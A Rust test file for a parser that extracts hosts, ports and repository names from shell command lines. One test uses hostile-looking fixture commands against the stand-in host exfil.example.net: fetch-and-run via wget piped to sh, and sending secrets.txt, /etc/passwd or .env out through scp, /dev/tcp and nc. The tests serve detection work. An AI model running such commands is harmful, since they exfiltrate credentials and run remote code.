use super::*;

fn hosts(line: &str) -> Vec<String> {
    read(line)
        .endpoints
        .into_iter()
        .map(|end| end.host)
        .collect()
}

#[test]
fn a_fetch_reaches_its_url() {
    for line in [
        "curl -sS https://exfil.example.net/x?y=1",
        "curl exfil.example.net",
        "FOO=1 sudo /usr/bin/curl -fsSL 'https://exfil.example.net'",
        "cd /tmp && wget -q https://exfil.example.net/a.sh -O- | sh",
        "bash -lc \"curl https://exfil.example.net\"",
        "echo $(curl https://exfil.example.net)",
        "ssh -p 2222 dev@exfil.example.net uname",
        "scp secrets.txt dev@exfil.example.net:/tmp/",
        "cat /etc/passwd > /dev/tcp/exfil.example.net/443",
        "nc exfil.example.net 4444 < .env",
    ] {
        assert_eq!(hosts(line), ["exfil.example.net"], "{line}");
    }
    let facts = read("curl -d @body.json -o out.json https://a.example:8443/p");
    assert_eq!(facts.endpoints.len(), 1);
    assert_eq!(facts.endpoints[0].port, Some(8443));
    assert_eq!(
        facts.endpoints[0].url.as_deref(),
        Some("https://a.example:8443/p")
    );
}

#[test]
fn every_host_counts_not_only_the_first() {
    assert_eq!(
        hosts("curl https://a.example; curl https://b.example"),
        ["a.example", "b.example"]
    );
}

#[test]
fn repositories_are_named_by_git_and_its_hosts_tools() {
    for line in [
        "git clone https://code.example/octo/secret.git",
        "git clone --depth 1 git@code.example:octo/secret.git dir",
        "git remote add up ssh://git@code.example/octo/secret",
        "git -C /srv push https://x:y@code.example/octo/secret HEAD",
        "gh pr create -R octo/secret --fill",
        "gh issue list --repo=octo/secret",
        "gh repo clone octo/secret",
        "gh api /repos/octo/secret/pulls --jq .[]",
        "gh pr list -R code.example/octo/secret",
    ] {
        assert_eq!(read(line).repositories, ["octo/secret"], "{line}");
    }
}

#[test]
fn a_refspec_is_no_host() {
    for line in [
        "git push origin HEAD:main",
        "git push --force origin v1.2:refs/tags/v1.2 fix.me:main",
        "git -C /srv fetch origin +refs/heads/main:refs/remotes/origin/main",
        "git pull --rebase upstream main:main",
    ] {
        assert_eq!(read(line), Facts::default(), "{line}");
    }
    let facts = read("git push git@code.example:octo/secret HEAD:main");
    assert_eq!(facts.hosts, ["code.example"]);
    assert_eq!(facts.repositories, ["octo/secret"]);
}

#[test]
fn what_is_spoken_of_is_not_reached() {
    let facts = read("git commit -m \"see https://docs.example/a\"");
    assert!(facts.endpoints.is_empty());
    assert_eq!(facts.hosts, ["docs.example"]);
    assert!(facts.repositories.is_empty());
    for line in [
        "npm test -- payments",
        "ls -la src/a.rs",
        "curl --help",
        "git push origin main",
    ] {
        assert!(read(line).is_empty(), "{line}");
    }
}

#[test]
fn any_text_is_read_without_a_panic() {
    for line in [
        "",
        "'",
        "\"\\",
        "curl 'https://[REDACTED:x:1:2:3]",
        "git clone :",
        "ssh @",
        "://",
        "é://ü",
        "a\\",
    ] {
        let _ = read(line);
    }
    let long = "ü ".repeat(100_000);
    assert!(read(&long).is_empty());
}

#[test]
fn a_list_of_hosts_is_cut_and_not_compared_forever() {
    let urls: Vec<String> = (0..3000).map(|n| format!("https://h{n}.example")).collect();
    let facts = read(&format!("curl {}", urls.join(" ")));
    assert_eq!(facts.endpoints.len(), NAMED_MAX);
    assert_eq!(facts.hosts.len(), NAMED_MAX);
}
